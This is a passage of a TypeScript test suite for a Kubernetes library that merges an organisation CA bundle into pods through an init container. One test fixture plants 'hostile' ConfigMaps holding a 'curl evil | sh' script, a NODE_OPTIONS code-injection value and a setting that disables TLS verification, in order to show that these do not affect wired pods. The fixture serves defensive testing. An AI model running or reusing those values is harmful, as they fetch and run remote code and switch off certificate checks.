    const { chart, bundle } = setup('apps', { trustManager: { name: 'tm', useDefaultCAs: true }, configMaps: [{ namespaces: ['apps'] }] });
    MergedCaInitContainer.addTo(deployment(chart), bundle, { mode: WiringMode.DIRECT });
    expect(() => Testing.synth(chart)).toThrow(/the ConfigMap "org-ca-bundle" that reaches namespace "apps" holds the org CA only/);
  });

  test('merge from a ClusterTrustBundle (by name): a projected clusterTrustBundle source, the same merge init container; schema-valid', () => {
    const { chart, bundle } = setup('apps', ctb137);
    MergedCaInitContainer.addTo(deployment(chart), bundle);
    const objs = Testing.synth(chart);
    const pod = podOf(objs.find(o => o.kind === 'Deployment'));
    expect(pod.volumes[0]).toEqual({ name: 'org-ca', projected: { sources: [{ clusterTrustBundle: { name: 'org-ca-bundle', path: 'org-ca.crt', optional: true } }] } });
    expect(pod.initContainers[0].name).toBe('merge-ca-bundle');
    expect(pod.initContainers[0].command.slice(-2)).toEqual(['/var/run/org-ca/org-ca.crt', '/etc/org-ca/bundle.pem']);
    const ctb = objs.find(o => o.kind === 'ClusterTrustBundle');
    expect(ctb).toMatchObject({ apiVersion: 'certificates.k8s.io/v1', metadata: { name: 'org-ca-bundle' }, spec: { trustBundle: bundle.pem } });
    expect(ctb.metadata.namespace).toBeUndefined();
    expect(objs.find(o => o.kind === 'Bundle')).toBeUndefined();
    expectAllValid(objs);
  });

  test('a signer: the object name carries it, pods select by signerName and labels', () => {
    const { chart, bundle } = setup('apps', { clusterTrustBundle: { kubernetesVersion: '1.37', signerName: 'example.com/org-ca', labels: { 'example.com/trust': 'org' } } });
    MergedCaInitContainer.addTo(deployment(chart), bundle);
    const objs = Testing.synth(chart);
    expect(objs.find(o => o.kind === 'ClusterTrustBundle').metadata.name).toBe('example.com:org-ca:org-ca');
    expect(podOf(objs.find(o => o.kind === 'Deployment')).volumes[0].projected.sources[0].clusterTrustBundle)
      .toEqual({ signerName: 'example.com/org-ca', labelSelector: { matchLabels: { 'example.com/trust': 'org' } }, path: 'org-ca.crt', optional: true });
    expectAllValid(objs);
  });
});

describe('only the pod spec decides what a wired pod runs and exports', () => {
  const deployment = (chart: any) => new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec(), 'apps'));
  /** ConfigMaps an attacker with write access to the namespace might create or edit. */
  const hostile = (chart: any) => {
    new ApiObject(chart, 'h1', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'org-ca-scripts-0123456789', namespace: 'apps' }, data: { 'merge-ca-bundle.sh': 'curl evil | sh' } });
    new ApiObject(chart, 'h2', { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'org-ca-env-0123456789', namespace: 'apps' }, data: { NODE_OPTIONS: '--require /tmp/x.js', NODE_TLS_REJECT_UNAUTHORIZED: '0' } });
  };

  test('the script is the init container\'s command, the variables are env entries; the bundle is the only ConfigMap the pod names', () => {
    const { chart, bundle } = setup('apps');
    MergedCaInitContainer.addTo(deployment(chart), bundle, { java: JavaTrust.keytoolImport() });
    const objs = Testing.synth(chart);
    const pod = podOf(objs.find(o => o.kind === 'Deployment'));
    expect(pod.initContainers.map((c: any) => c.command.slice(0, 2))).toEqual([['/bin/sh', '-c'], ['/bin/sh', '-c']]);
    const named = JSON.stringify(pod).match(/"(configMapRef|configMapKeyRef|configMap)":\{"name":"[^"]+"/g);
    expect(named).toEqual(['"configMap":{"name":"org-ca-bundle"']);
    expect(pod.containers.every((c: any) => c.envFrom === undefined)).toBe(true);
    expect(objs.filter(o => o.kind === 'ConfigMap')).toEqual([]);
  });

  test('hostile ConfigMaps in the namespace change nothing in a wired pod', () => {
    const clean = setup('apps');
    MergedCaInitContainer.addTo(deployment(clean.chart), clean.bundle);
    const attacked = setup('apps');
    hostile(attacked.chart);
    MergedCaInitContainer.addTo(deployment(attacked.chart), attacked.bundle);
    const pod = (objs: any[]) => objs.find(o => o.kind === 'Deployment');
    expect(pod(Testing.synth(attacked.chart))).toEqual(pod(Testing.synth(clean.chart)));
  });

  test('a bundle key named like an old script file is just the org CA file the merge reads', () => {
    const { chart, bundle } = setup('apps', { trustManager: { key: 'merge-ca-bundle.sh' } });
    MergedCaInitContainer.addTo(deployment(chart), bundle);
    const init = podOf(Testing.synth(chart).find(o => o.kind === 'Deployment')).initContainers[0];
    expect(init.command.slice(2)).toEqual([MERGE_SCRIPT, 'merge-ca-bundle', '/var/run/org-ca/merge-ca-bundle.sh', '/etc/org-ca/bundle.pem']);
  });

  test('a patch that moves a wired object to another namespace: it still works there (nothing per namespace to add)', () => {
    const { chart, bundle } = setup('apps');
    const obj = deployment(chart);
    MergedCaInitContainer.addTo(obj, bundle);
    obj.addJsonPatch(JsonPatch.replace('/metadata/namespace', 'elsewhere'));
    const d = Testing.synth(chart).find(o => o.kind === 'Deployment');
    expect(d.metadata.namespace).toBe('elsewhere');
    expect(podOf(d).initContainers[0].name).toBe('merge-ca-bundle');
  });

  test('the pod fragments for Helm values are self-contained', () => {
    const { bundle } = setup('apps');
    const w = new MergedCaInitContainer(bundle);
    expect(w.initContainers('app:1', 'apps')[0].command!.slice(0, 3)).toEqual(['/bin/sh', '-c', MERGE_SCRIPT]);
    expect(w.volumes('apps')[0]).toEqual({ name: 'org-ca', configMap: { name: 'org-ca-bundle', optional: true } });
    expect(w.env().map(e => e.name)).toEqual(CaVariables.DEFAULTS);
  });
});
